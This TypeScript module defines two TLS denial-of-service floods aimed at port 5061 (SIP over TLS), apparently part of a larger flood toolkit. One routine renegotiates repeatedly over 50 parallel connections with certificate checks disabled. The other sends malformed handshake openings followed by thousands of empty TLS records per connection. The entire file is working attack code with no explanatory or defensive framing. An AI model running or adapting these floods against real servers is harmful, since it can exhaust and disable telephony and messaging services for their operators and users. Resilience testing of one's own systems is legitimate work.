/** What TLS lets a client ask for again and again on one connection. */
import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as openTls, type TLSSocket } from 'node:tls';
import { dial, type Field, type Flood, inLanes } from './floods.js';

/** Records of application data and of a handshake with nothing in them (RFC 5246 §6.2.1 allows the first and not the second). */
const EMPTY = [Buffer.from('1703030000', 'hex'), Buffer.from('1603030000', 'hex')] as const;
const RECORDS = 4000;
const LANES = 50;

const secured = async (field: Field, number: number): Promise<TLSSocket | null> => {
  const socket = await dial({ ...field, tcp: 5061 }, number);
  if (!socket) return null;
  const secure = openTls({ socket, rejectUnauthorized: false, maxVersion: 'TLSv1.2', minVersion: 'TLSv1.2' });
  secure.on('error', () => socket.destroy());
  await Promise.race([once(secure, 'secureConnect'), once(socket, 'close'), sleep(500)]).catch(() => undefined);
  if (!secure.destroyed && secure.getProtocol() !== null) return secure;
  socket.destroy();
  return null;
};

export const TLS_FLOODS: Readonly<Record<string, Flood>> = {
  renegotiation: (field) =>
    inLanes(LANES, async (number) => {
      const secure = await secured(field, number);
      if (!secure) return void (await sleep(5));
      const renegotiate = (): Promise<boolean> =>
        new Promise((resolve) => {
          secure.once('close', () => resolve(false));
          if (secure.renegotiate({ rejectUnauthorized: false }, (error) => resolve(error === null)) === false)
            resolve(false);
        });
      while (!secure.destroyed && (await renegotiate()));
      secure.destroy();
    }),
  'records without content': (field) =>
    inLanes(LANES, async (number) => {
      const socket = await dial({ ...field, tcp: 5061 }, number);
      if (!socket) return void (await sleep(5));
      const [data, handshake] = EMPTY;
      // What opens a handshake and never goes on with it.
      socket.write(number % 2 === 0 ? handshake : Buffer.concat([Buffer.from('1603030016', 'hex'), randomBytes(22)]));
      socket.write(Buffer.concat(new Array<Buffer>(RECORDS).fill(number % 3 === 0 ? data : handshake)));
      await Promise.race([once(socket, 'close'), sleep(500)]).catch(() => undefined);
      socket.destroy();
    }),
};
